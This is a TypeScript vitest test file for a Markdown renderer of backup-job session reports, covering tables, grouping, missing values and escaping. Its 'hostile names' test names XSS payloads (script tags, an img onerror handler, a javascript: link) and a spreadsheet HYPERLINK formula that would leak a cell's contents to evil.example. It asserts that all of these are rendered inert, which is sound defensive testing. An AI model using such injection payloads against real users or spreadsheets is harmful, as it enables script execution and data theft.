import { describe, expect, it } from 'vitest';
import { renderMarkdown } from '../src/render/render-markdown.js';
import type { GroupReport } from '../src/report.js';
import { ReportError } from '../src/report-error.js';
import {
  groupedReport,
  hostileReport,
  jobReport,
  labelLikeServersReport,
  sameNameReport,
  sessionReport,
  smallReport,
  twoSourceReport,
} from './render-fixtures.js';

const lines = (...text: string[]) => `${text.join('\n')}\n`;

/** A table row's cells, split at the pipes a GFM parser would split at (unescaped ones). */
function cells(row: string): string[] {
  const found: string[] = [];
  let cell = '';
  for (let index = 0; index < row.length; index += 1) {
    const char = row[index];
    if (char === '\\') {
      cell += row.slice(index, index + 2);
      index += 1;
    } else if (char === '|') {
      found.push(cell.trim());
      cell = '';
    } else {
      cell += char;
    }
  }
  return [...found, cell.trim()].slice(1, -1);
}

/** Characters that would mean something to Markdown or HTML, not escaped. */
const UNESCAPED = /(?<!\\)(?:\\\\)*[`*_~[\]<>]/;

describe('renderMarkdown', () => {
  it('names the source a failed backup server is a part of, escaped, so it reads as no EM', () => {
    const report = twoSourceReport();
    report.failedSources = [
      { name: 'em-west', error: 'timeout', source: '*em-east*|x' },
      { name: 'em-north', error: 'connection refused' },
    ];
    expect(renderMarkdown(report)).toContain(
      '| Source | Error |\n| --- | --- |\n| em-west (of \\*em-east\\*\\|x) | timeout |\n' +
        '| em-north | connection refused |\n',
    );
  });

  it('names the source of each job when the jobs come from more than one EM', () => {
    const text = renderMarkdown(twoSourceReport());
    expect(text).toContain(
      [
        '| Job | Source | Health | Last result | Last success | Runs | Success rate | Notes |',
        '| --- | --- | --- | --- | ---: | ---: | ---: | --- |',
        '| Linux Servers Backup | hq | ok | Success | 1h ago | 1 | 100.0% |  |',
        '| Linux Servers Backup | branch | ok | Success | 1h ago | 1 | 100.0% |  |',
      ].join('\n'),
    );
    expect(text).toContain(
      [
        '| Job | Source | Type | Schedule | Last success | RPO |',
        '| --- | --- | --- | --- | ---: | ---: |',
        '| Weekly archive | branch | Backup | enabled | 30h ago | 2d |',
      ].join('\n'),
    );
    expect(renderMarkdown(smallReport())).not.toMatch(/\| Job \| Source/);
  });

  it('tells jobs of one name apart in the job, missed job and VM tables', () => {
    const markdown = renderMarkdown(sameNameReport());
    expect(markdown).toContain('| Daily (vbr01) | ok |');
    expect(markdown).toContain('| Daily (vbr02) | ok |');
    expect(markdown).toContain('| Weekly | ok |');
    expect(markdown).toContain('| Daily (cccccccc) | Backup |');
    expect(markdown).toContain('| db01 | Daily (vbr01) |');
    expect(markdown).toContain('| db01 | Daily (vbr02) |');
  });

  it('counts the runs that never got an outcome in the totals', () => {
    const report = smallReport();
    const output = renderMarkdown({
      ...report,
      totals: { ...report.totals, runsWithoutOutcome: 2 },
    });
    expect(output).toContain('| Running | Without outcome |');
    expect(output).toContain('\n| 3 | 24 | 26 | 17 | 1 | 6 | 1 | 2 | 70.8% | 1 | 1 |\n');
  });

  it('renders a report as headings and tables', () => {
    expect(renderMarkdown(smallReport())).toBe(
      lines(
        '# Session report',
        '',
        'Sessions 2025-09-17 00:00 – 2025-09-24 00:00 (Europe/Berlin), policy strict, generated 2025-09-24 10:00.',
        '',
        '> Partial report: 1 source failed (see Failed sources below).',
        '',
        '## Totals',
        '',
        '| Jobs | Runs | Attempts | Successful | Warning | Failed | Running | Without outcome | Success rate | Jobs breaching RPO | VMs breaching RPO |',
        '| ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |',
        '| 3 | 24 | 26 | 17 | 1 | 6 | 1 | 0 | 70.8% | 1 | 1 |',
        '',
        '## Jobs',
        '',
        '| Job | Health | Last result | Last success | Runs | Success rate | Notes |',
        '| --- | --- | --- | ---: | ---: | ---: | --- |',
        '| Nightly SQL | critical | Failed | 2d 4h ago | 14 | 57.1% | running for 3h 20m; slower than usual; 2 failed runs in a row; no success for 2d 4h (RPO 1d) |',
        '| File server | warning | Warning | 8h 20m ago | 7 | 85.7% | last run ended with a warning |',
        '| Replica DC | ok | Success | 1h ago | 3 | 100.0% |  |',
        '',
        '## Failed sources',
        '',
        'The report is partial: these sources failed.',
        '',
        '| Source | Error |',
        '| --- | --- |',
        '| em2.example.com | connect ECONNREFUSED 10.0.0.2:9398 |',
        '',
        '## Missed jobs',
        '',
        'Jobs with no session in the window.',
        '',
        '| Job | Type | Schedule | Last success | RPO |',
        '| --- | --- | --- | ---: | ---: |',
        '| Weekly archive | Backup | disabled | 10d 6h ago | 1d, breached |',
        '',
        '## VMs breaching RPO',
        '',
        '| VM | Job | Last success | RPO |',
        '| --- | --- | ---: | ---: |',
        '| sql01 | Nightly SQL | 2d 4h ago | 1d |',
        '',
        '## Top failure reasons',
        '',
        '| Count | Reason | Example |',
        '| ---: | --- | --- |',
        '| 5 | Timed out after &lt;n&gt; s | Timed out after 900 s |',
        '| 4 | Failed to create VM snapshot on host &lt;host&gt; | Failed to create VM snapshot on host esx01 |',
      ),
    );
  });

  it('adds a table per grouping after the jobs: backup servers, then job types', () => {
    const output = renderMarkdown(groupedReport());
    const groups = lines(
      '## By backup server',
      '',
      '| Backup server | Jobs | Runs | Failed | Success rate | Jobs breaching RPO |',
      '| --- | ---: | ---: | ---: | ---: | ---: |',
      '| vbr01 | 2 | 21 | 6 | 66.7% | 1 |',
      '| (no server) | 1 | 3 | 0 | 100.0% | 0 |',
      '',
      '## By job type',
      '',
      '| Job type | Jobs | Runs | Failed | Success rate | Jobs breaching RPO |',
      '| --- | ---: | ---: | ---: | ---: | ---: |',
      '| Backup | 2 | 21 | 6 | 66.7% | 1 |',
      '| Replica | 1 | 3 | 0 | 100.0% | 0 |',
      '',
    );
    const ungrouped = renderMarkdown(smallReport());
    const at = ungrouped.indexOf('## Failed sources');
    expect(output).toBe(ungrouped.slice(0, at) + groups + ungrouped.slice(at));
    expect(ungrouped).not.toContain('## By ');
  });

  it('tells the jobs without a backup server apart from a server named like their label', () => {
    const output = renderMarkdown(labelLikeServersReport());
    expect(output.split('\n').filter((line) => line.includes('(no server)'))).toEqual([
      '| (no server) | 1 | 3 | 0 | 100.0% | 0 |',
      '| "(no server)" | 2 | 3 | 0 | 100.0% | 0 |',
      '| ""(no server)"" | 3 | 3 | 0 | 100.0% | 0 |',
      '| "(no server)" | 4 | 3 | 0 | 100.0% | 0 |',
    ]);
  });

  it('names the source of each backup server when they come from several EMs', () => {
    const report = groupedReport();
    const server = report.groups.find((group) => group.key === 'vbr01') as GroupReport;
    report.groups = [
      { ...server, source: 'em-paris' },
      { ...server, source: null },
    ];
    expect(renderMarkdown(report)).toContain(
      lines(
        '| Backup server | Source | Jobs | Runs | Failed | Success rate | Jobs breaching RPO |',
        '| --- | --- | ---: | ---: | ---: | ---: | ---: |',
        '| vbr01 | em-paris | 2 | 21 | 6 | 66.7% | 1 |',
        '| vbr01 | — | 2 | 21 | 6 | 66.7% | 1 |',
      ),
    );
  });

  it('says plainly that the window had no job sessions instead of empty tables', () => {
    expect(renderMarkdown(sessionReport())).toBe(
      lines(
        '# Session report',
        '',
        'Sessions 2025-09-17 00:00 – 2025-09-24 00:00 (Europe/Berlin), policy strict, generated 2025-09-24 10:00.',
        '',
        'No job sessions in the window 2025-09-17 00:00 – 2025-09-24 00:00.',
      ),
    );
  });

  it('shows missing values as dashes', () => {
    const report = smallReport();
    report.totals.successRate = null;
    report.jobs = [
      jobReport({
        jobName: 'New',
        lastResult: null,
        lastSuccessAgeSeconds: null,
        successRate: null,
      }),
    ];
    const output = renderMarkdown(report);
    expect(output).toContain('\n| 3 | 24 | 26 | 17 | 1 | 6 | 1 | 0 | — | 1 | 1 |\n');
    expect(output).toContain('\n| New | ok | — | — | 1 | — |  |\n');
  });

  it('shows at most `top` rows per list and says how many there are', () => {
    const output = renderMarkdown(hostileReport(), { top: 3 });
    expect(output).toContain(
      '\n## Missed jobs\n\nJobs with no session in the window. Showing 3 of 20.\n\n| Job |',
    );
    expect(output).toContain('\n## VMs breaching RPO\n\nShowing 3 of 20.\n\n| VM |');
    expect(output).toContain('\n## Top failure reasons\n\nShowing 3 of 20.\n\n| Count |');
    expect(() => renderMarkdown(smallReport(), { top: 0 })).toThrow(ReportError);
  });

  it('keeps hostile names inert: tables intact, no HTML, links, code or emphasis', () => {
    const output = renderMarkdown(hostileReport(), { top: 100 });
    const blocks = output.trimEnd().split('\n\n');
    for (const block of blocks) {
      const rows = block.split('\n');
      if (!block.startsWith('|')) {
        expect(rows).toHaveLength(1);
        continue;
      }
      const width = cells(rows[0] ?? '').length;
      for (const row of rows) {
        expect(row).toMatch(/^\| .* \|$/);
        expect(cells(row)).toHaveLength(width);
        for (const cell of cells(row)) expect(cell).not.toMatch(UNESCAPED);
      }
    }
    // The totals table, then seven tables of 20 rows: jobs, backup servers, job types, failed
    // sources, missed jobs, VMs, reasons.
    expect(output.split('\n').filter((line) => line.startsWith('| '))).toHaveLength(
      3 + 7 * (2 + 20),
    );
    expect(output).toContain(
      '\n| &lt;script&gt;alert(1)&lt;/script&gt; | 1 | 1 | 0 | 100.0% | 1 |\n',
    );
    expect(output).toContain('\n| first line second line | 1 | 1 | 0 | 100.0% | 1 |\n');
    expect(output).not.toMatch(/[^\P{Cc}\n]|\u202E/u);
    expect(output).toContain('| &lt;script&gt;alert(1)&lt;/script&gt; | critical |');
    expect(output).toContain('| "&gt;&lt;img src=x onerror=alert(1)&gt; | critical |');
    expect(output).toContain('| \\[click\\](javascript:alert(1)) | critical |');
    expect(output).toContain('| a \\| b \\|\\| c | critical |');
    expect(output).toContain('| first line second line | critical |');
    expect(output).toContain('| quote " and \\\\" backslash \\\\ | critical |');
    expect(output).toContain(
      '| \\`code\\` \\*bold\\* \\_em\\_ \\~\\~strike\\~\\~ \\\\\\* | critical |',
    );
    // After `"` the URL is no autolink GitHub is sure of, yet cmark-gfm would link it: kept from
    // linking, so that the escapes in it stay escapes.
    expect(output).toContain('=HYPERLINK("http\\://evil.example/?leak="&amp;A1,"x")');
  });

  it('leaves a URL in a reason verbatim and defuses an @-mention in it', () => {
    const report = twoSourceReport();
    const reason =
      'Pre-job script failed: @echo off; cc @acme/security-team, see https://kb.example/a_b?c=1';
    report.jobs = [jobReport({ jobName: 'Nightly @ops', source: 'hq', reasons: [reason] })];
    const output = renderMarkdown(report);
    expect(output).toContain(
      '| Nightly \\@ops | hq | ok | Success | 1h ago | 1 | 100.0% | Pre-job script failed: \\@echo off; cc \\@acme/security-team, see https://kb.example/a_b?c=1 |',
    );
  });

  it('shows URLs in job names, reasons and server names as they are, in intact cells', () => {
    const url = 'https://kb.example/article?id=4 see www.example.org or ops@example.org';
    const report = twoSourceReport();
    report.jobs = [
      jobReport({ jobName: `Copy ${url}`, source: 'http://em.example:9398', reasons: [url] }),
      jobReport({ jobUid: 'urn:veeam:Job:2', jobName: 'a|b\n<i>', source: 'hq' }),
    ];
    report.failedSources = [{ name: 'https://em2.example:9398', error: `401 at ${url}` }];
    const output = renderMarkdown(report);
    expect(output).toContain(
      `| Copy ${url} | http://em.example:9398 | ok | Success | 1h ago | 1 | 100.0% | ${url} |`,
    );
    expect(output).toContain('| a\\|b &lt;i&gt; | hq | ok |');
    expect(output).toContain(`| https://em2.example:9398 | 401 at ${url} |`);
    expect(output).not.toContain('\\:');
  });

  it('escapes the time zone and policy too', () => {
    const report = sessionReport({ policy: '*strict*' as 'strict' });
    expect(renderMarkdown(report)).toContain(', policy \\*strict\\*, ');
  });
});
